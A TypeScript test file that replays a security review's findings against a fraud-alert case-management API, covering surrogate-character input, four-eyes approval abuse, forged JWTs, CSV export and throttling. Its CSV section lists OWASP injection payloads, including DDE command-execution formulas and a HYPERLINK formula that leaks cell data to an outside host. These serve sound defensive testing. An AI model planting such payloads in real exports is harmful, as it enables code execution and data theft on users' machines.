// The security review's findings, one describe per row of its table (issue 15), each reproduced as
// the reviewer did it and held to the fixed behaviour. The audit chain's tampering cases (keyed
// hashes, checkpoints) are in cases-audit.test.ts.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createHmac } from 'node:crypto'
import { openStore, type Store } from '../src/store/index.ts'
import type { Role } from '../src/schema/alert.ts'
import { addUser, disableUser } from '../src/server/index.ts'
import { verifyAudit } from '../src/cases/index.ts'
import { csvField } from '../src/cases/export/csv.ts'
import { authenticate } from '../src/server/auth/middleware.ts'
import { RING, RING_ALERT, ringAlert, seed, testApp } from './server-fixture.ts'
import { auditCount, editAuditRow } from './fixtures/audit.ts'

type Json = Record<string, any> // eslint-disable-line @typescript-eslint/no-explicit-any

let store: Store
let keys: Record<Role, string>
let app: ReturnType<typeof testApp>
let n = 0
const NOW = Date.parse('2026-03-12T12:00:00Z')
const SECRET = 'a-test-secret-that-is-long-enough-123456'

beforeAll(async () => {
  store = await openStore({ path: ':memory:' })
  keys = await seed(store)
  app = testApp(store, { clock: () => NOW })
})
afterAll(async () => store.close())

const post = (a: ReturnType<typeof testApp>, path: string, body: unknown, key: string) =>
  a.request(path, {
    method: 'POST',
    headers: { 'X-API-Key': key, 'Content-Type': 'application/json' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const get = (a: ReturnType<typeof testApp>, path: string, key: string) =>
  a.request(path, { headers: { 'X-API-Key': key } })

async function freshAlert(
  status = 'new',
  extra: { proposed_by?: string; proposed_outcome?: string } = {},
) {
  return ringAlert(store, `A-5ec0${(++n).toString(16).padStart(6, '0')}`, status, extra)
}

const auditRows = () => auditCount(store)

describe('high: a lone UTF-16 surrogate in a case action', () => {
  it('is refused with 400 before anything is written, and the chain stays intact', async () => {
    const id = await freshAlert('in_review')
    const before = await auditRows()
    // the reviewer's exact body: JSON's \ud800 escape is a lone surrogate in JavaScript
    const res = await post(
      app,
      `/api/alerts/${id}/actions`,
      '{"type":"escalate","reason":"why \\ud800 here"}',
      keys.analyst,
    )
    expect(res.status).toBe(400)
    expect(((await res.json()) as Json).error.message).toMatch(/surrogate/)
    expect(await auditRows()).toBe(before)
    const a = (await (await get(app, `/api/alerts/${id}`, keys.analyst)).json()) as Json
    expect(a.alert.status).toBe('in_review')
    expect((await verifyAudit(store)).ok).toBe(true)
  })

  it('verify names every broken row, not only the first', async () => {
    const s = await openStore({ path: ':memory:' })
    try {
      const k = await seed(s)
      const a = testApp(s, { clock: () => NOW })
      for (let i = 0; i < 4; i++)
        await post(
          a,
          `/api/alerts/${RING_ALERT}/actions`,
          { type: 'note', text: `note ${i}` },
          k.analyst,
        )
      const rows = (await verifyAudit(s)).rows
      await editAuditRow(s, 2, { reason: 'x' })
      await editAuditRow(s, rows - 1, { reason: 'x' })
      const r = (await verifyAudit(s)) as Json
      expect(r.ok).toBe(false)
      const seqs = (r.problems ?? [r.first_bad]).map((p: Json) => p.seq)
      expect(seqs).toEqual(expect.arrayContaining([2, rows - 1]))
    } finally {
      await s.close()
    }
  })
})

describe('medium: four eyes by sock puppet', () => {
  it('a supervisor made by an admin waits for a second admin, and cannot approve that admin', async () => {
    const made = await post(app, '/api/users', { id: 'puppet', role: 'supervisor' }, keys.admin)
    expect(made.status).toBe(202) // a request, not a user
    const { request, key } = (await made.json()) as Json
    expect((await get(app, '/api/me', key)).status).toBe(401) // not yet
    // the requesting admin cannot approve it
    expect(
      (await post(app, `/api/users/requests/${request.id}/approve`, {}, keys.admin)).status,
    ).toBe(403)
    const adam2 = (await addUser(store, 'adam2', 'admin')).key
    const ok = await post(app, `/api/users/requests/${request.id}/approve`, {}, adam2)
    expect(ok.status).toBe(200)
    expect((await get(app, '/api/me', key)).status).toBe(200)
    // the admin proposes; their own creation may not approve; an unrelated supervisor may
    const id = await freshAlert('in_review')
    expect(
      (
        await post(
          app,
          `/api/alerts/${id}/actions`,
          { type: 'propose', outcome: 'closed_benign', reason: 'fine' },
          keys.admin,
        )
      ).status,
    ).toBe(200)
    const detail = (await (await get(app, `/api/alerts/${id}`, key)).json()) as Json
    expect(detail.available_actions).not.toContain('approve')
    const puppet = await post(app, `/api/alerts/${id}/actions`, { type: 'approve' }, key)
    expect(puppet.status).toBe(403)
    expect(((await puppet.json()) as Json).error.message).toMatch(/custody/)
    expect(
      (await post(app, `/api/alerts/${id}/actions`, { type: 'approve' }, keys.supervisor)).status,
    ).toBe(200)
  })

  it('an analyst made by an admin cannot be the maker for that admin to approve', async () => {
    const res = await post(app, '/api/users', { id: 'puppet-ana', role: 'analyst' }, keys.admin)
    expect(res.status).toBe(201)
    const { key } = (await res.json()) as Json
    const id = await freshAlert('in_review')
    expect(
      (
        await post(
          app,
          `/api/alerts/${id}/actions`,
          { type: 'propose', outcome: 'reported', reason: 'STR' },
          key,
        )
      ).status,
    ).toBe(200)
    expect(
      (await post(app, `/api/alerts/${id}/actions`, { type: 'approve' }, keys.admin)).status,
    ).toBe(403)
  })

  it('promoting a user to supervisor waits for a second admin too', async () => {
    const { key } = (await (
      await post(app, '/api/users', { id: 'rising', role: 'analyst' }, keys.admin)
    ).json()) as Json
    const res = await post(app, '/api/users/rising/role', { role: 'supervisor' }, keys.admin)
    expect(res.status).toBe(202)
    expect(((await (await get(app, '/api/me', key)).json()) as Json).role).toBe('analyst')
  })
})

describe('medium: JWT subjects, roles and lifetime', () => {
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url')
  const sign = (head: string) => createHmac('sha256', SECRET).update(head).digest('base64url')
  const token = (
    claims: Record<string, unknown>,
    header: unknown = { alg: 'HS256', typ: 'JWT' },
  ) => {
    const head = `${b64(header)}.${b64({ iss: 'https://idp.bank', aud: 'ringwatch', exp: NOW / 1000 + 600, ...claims })}`
    return `${head}.${sign(head)}`
  }
  const jwtApp = (extra: Record<string, unknown> = {}) =>
    testApp(store, {
      clock: () => NOW,
      auth: {
        jwt: {
          issuer: 'https://idp.bank',
          audience: 'ringwatch',
          secret: SECRET,
          ...extra,
        } as never,
      },
    })
  const me = (a: ReturnType<typeof testApp>, t: string) =>
    a.request('/api/me', { headers: { Authorization: `Bearer ${t}` } })

  it('refuses a disabled local user as subject', async () => {
    await addUser(store, 'gone', 'analyst')
    await disableUser(store, 'gone')
    expect((await me(jwtApp(), token({ sub: 'gone', role: 'analyst' }))).status).toBe(401)
    expect((await me(jwtApp(), token({ sub: 'nobody-here', role: 'analyst' }))).status).toBe(401)
    expect((await me(jwtApp(), token({ sub: 'ana', role: 'analyst' }))).status).toBe(200)
  })

  it('takes no role from a claim beyond the allow-list or the user own role', async () => {
    expect((await me(jwtApp(), token({ sub: 'adam', role: 'admin' }))).status).toBe(401)
    expect((await me(jwtApp(), token({ sub: 'ana', role: 'supervisor' }))).status).toBe(401)
  })

  it('refuses a token that lives too long', async () => {
    expect((await me(jwtApp(), token({ sub: 'ana', role: 'analyst', exp: 1e300 }))).status).toBe(
      401,
    )
    expect(
      (
        await me(
          jwtApp(),
          token({ sub: 'ana', role: 'analyst', iat: NOW / 1000 - 60, exp: NOW / 1000 + 13 * 3600 }),
        )
      ).status,
    ).toBe(401)
  })

  it('keeps external subjects apart from local ids', async () => {
    const a = jwtApp({ externalSubjects: true })
    const res = await me(a, token({ sub: 'sue', role: 'supervisor' }))
    expect(res.status).toBe(200)
    expect(((await res.json()) as Json).id).not.toBe('sue')
  })

  it('answers a token whose header is JSON null with 401, not 500', async () => {
    const head = `${Buffer.from('null').toString('base64url')}.${b64({ sub: 'ana' })}`
    expect((await me(jwtApp(), `${head}.${sign(head)}`)).status).toBe(401)
  })
})

describe('low-medium: CSV formula guard (OWASP)', () => {
  // OWASP's CSV Injection page: its attack examples, and its rule (=, +, -, @, tab, CR).
  const OWASP = [
    `=cmd|' /C calc'!A0`,
    `+cmd|' /C calc'!A0`,
    `-cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
    `-1+cmd|' /C calc'!A0`,
    `-2+3+cmd|' /C calc'!A0`,
    `=1+2";=1+2`,
    `\t=1+2`,
    `\r=1+2`,
  ]
  for (const v of OWASP)
    it(`neutralises ${JSON.stringify(v)}`, () => {
      const out = csvField(v)
      const cell = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out
      expect(cell.startsWith("'")).toBe(true)
      expect(cell.slice(1)).toBe(v)
    })

  it('keeps ordinary values as they are', () => {
    expect(csvField('A-00a1')).toBe('A-00a1')
    expect(csvField(87.5)).toBe('87.5')
    expect(csvField('a,b')).toBe('"a,b"')
  })
})

describe('low: inputs that reached a 500', () => {
  it('a note with a lone surrogate is a 400', async () => {
    const id = await freshAlert()
    const res = await post(
      app,
      `/api/alerts/${id}/actions`,
      '{"type":"note","text":"\\udc00"}',
      keys.analyst,
    )
    expect(res.status).toBe(400)
  })

  it('an impossible date is a 400', async () => {
    for (const path of [
      `/api/network?account=${RING[0]}&from=2026-99-99`,
      `/api/network?account=${RING[0]}&to=2026-02-30`,
      '/api/alerts?from=2026-13-01',
      '/api/alerts?to=2026-01-01T25:00:00Z',
    ]) {
      const res = await get(app, path, keys.analyst)
      expect(res.status, path).toBe(400)
    }
  })
})

describe('low: throttling, assignee, action responses, paths', () => {
  it('throttles failed keys per key id and per address', async () => {
    const a = testApp(store, { auth: { throttle: { perKeyId: 3, perAddress: 6 } } as never })
    const wrong = keys.analyst.slice(0, -6) + 'AAAAAA'
    const codes: number[] = []
    for (let i = 0; i < 5; i++) codes.push((await get(a, '/api/me', wrong)).status)
    expect(codes).toEqual([401, 401, 401, 429, 429])
    const r = await get(a, '/api/me', wrong)
    expect(Number(r.headers.get('retry-after'))).toBeGreaterThan(0)
    // the same address trying other (unknown) key ids is held back too
    const codes2: number[] = []
    for (let i = 0; i < 4; i++)
      codes2.push((await get(a, '/api/me', `rw_00000000000${i}_${'x'.repeat(32)}`)).status)
    expect(codes2.slice(-1)).toEqual([429])
  })

  it('checks an unknown key id with scrypt as well', async () => {
    let verifies = 0
    const fake = { one: async () => undefined } as never
    const { middleware } = authenticate({
      reads: fake,
      clock: () => 0,
      verify: async () => {
        verifies++
        return false
      },
    })
    const { Hono } = await import('hono')
    const h = new Hono()
    h.onError((_e, c) => c.json({}, 401))
    h.use('*', middleware as never)
    h.get('/', (c) => c.json({}))
    await h.request('/', { headers: { 'X-API-Key': `rw_abcdefabcdef_${'y'.repeat(32)}` } })
    expect(verifies).toBe(1)
  })

  it('accepts as assignee only a known, enabled user who works cases', async () => {
    const id = await freshAlert()
    const as = (assignee: string) =>
      post(app, `/api/alerts/${id}/actions`, { type: 'assign', assignee }, keys.supervisor)
    expect((await as('x'.repeat(100_000))).status).toBe(400)
    expect((await as('no-such-user')).status).toBe(400)
    expect((await as('fred')).status).toBe(400) // fiu_viewer
    expect((await as('ana')).status).toBe(200)
  })

  it('answers an admin note action without the alert the admin may not read', async () => {
    expect((await get(app, `/api/alerts/${RING_ALERT}`, keys.admin)).status).toBe(403)
    const res = await post(
      app,
      `/api/alerts/${RING_ALERT}/actions`,
      { type: 'note', text: 'seen' },
      keys.admin,
    )
    expect(res.status).toBe(200)
    const body = (await res.json()) as Json
    expect(body.alert.id).toBe(RING_ALERT)
    for (const field of ['accounts', 'reasons', 'tx_ids', 'finding', 'total_amount'])
      expect(body.alert, field).not.toHaveProperty(field)
  })

  it('shows absolute paths in /api/runs to admins only', async () => {
    await store.run('fixture/insert-run', {
      run_id: 'run-batch-paths',
      kind: 'batch',
      started_at: '2026-03-12T01:00:00Z',
      finished_at: '2026-03-12T01:00:05Z',
      status: 'failed',
      summary: JSON.stringify({
        dir: '/srv/bank/inbox',
        failures: [{ message: 'cannot read /srv/bank/inbox/x.csv: gone' }],
      }),
    })
    for (const role of ['analyst', 'supervisor', 'fiu_viewer', 'batch'] as const) {
      const text = await (await get(app, '/api/runs', keys[role])).text()
      expect(text, role).not.toMatch(/"\/|\s\/[a-z]/)
      expect(text, role).toContain('x.csv')
    }
    expect(await (await get(app, '/api/runs', keys.admin)).text()).toContain(
      '/srv/bank/inbox/x.csv',
    )
  })
})
